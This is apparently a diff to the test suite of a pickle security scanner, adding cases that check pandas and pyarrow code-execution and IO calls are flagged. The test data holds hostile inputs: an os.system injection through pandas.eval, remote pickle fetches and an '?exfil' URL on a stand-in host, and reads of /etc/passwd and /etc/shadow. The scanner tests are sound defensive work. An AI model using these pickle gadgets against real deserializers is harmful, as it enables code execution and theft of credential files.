@@ -1308,3 +1308,32 @@ def test_numpy_ufunc_reconstruct_is_a_resolver() -> None:
     assert "numpy.log1p" in r.callables
     evil = proto(2) + reduce_of("numpy._core", "_ufunc_reconstruct", u("os"), u("system")) + PAYLOAD
     assert_caught(scan(evil + TUPLE1 + REDUCE + STOP), "os.system")
+
+
+# --- pandas / pyarrow: allowing their data classes must not allow their code and IO paths ------------------
+
+
+@pytest.mark.parametrize(
+    ("module", "name", "arg"),
+    [
+        ("pandas", "eval", u("__import__('os').system('id')")),
+        ("pandas.core.computation.eval", "eval", u("__import__('os').system('id')")),
+        ("pandas", "read_pickle", u("https://example.invalid/evil.pkl")),
+        ("pandas.io.pickle", "read_pickle", u("/tmp/evil.pkl")),
+        ("pandas", "read_csv", u("https://example.invalid/?exfil")),
+        ("pandas", "HDFStore", u("/tmp/created-by-a-pickle.h5")),
+        ("pandas", "ExcelWriter", u("/tmp/created-by-a-pickle.xlsx")),
+        ("pandas.io.pytables", "HDFStore", u("/tmp/x.h5")),
+        ("pandas._libs.parsers", "TextReader", u("/etc/passwd")),
+        ("pandas.core.common", "pipe", u("x")),
+        ("pandas.util._decorators", "Appender", u("x")),
+        ("pandas.plotting._core", "_get_plot_backend", u("os")),
+        ("pandas.core.frame", "DataFrame.query", u("x")),
+        ("pyarrow.lib", "memory_map", u("/etc/shadow")),
+        ("pyarrow.lib", "OSFile", u("/tmp/x")),
+        ("pyarrow.parquet", "read_table", u("https://example.invalid/x.parquet")),
+    ],
+)
+def test_pandas_and_pyarrow_code_and_io_paths_stay_findings(module: str, name: str, arg: bytes) -> None:
+    """pandas data classes are allow-listed (tests/integration/test_benign_models.py); these are not."""
+    assert_caught(scan(call(module, name, arg)), f"{module}.{name}")
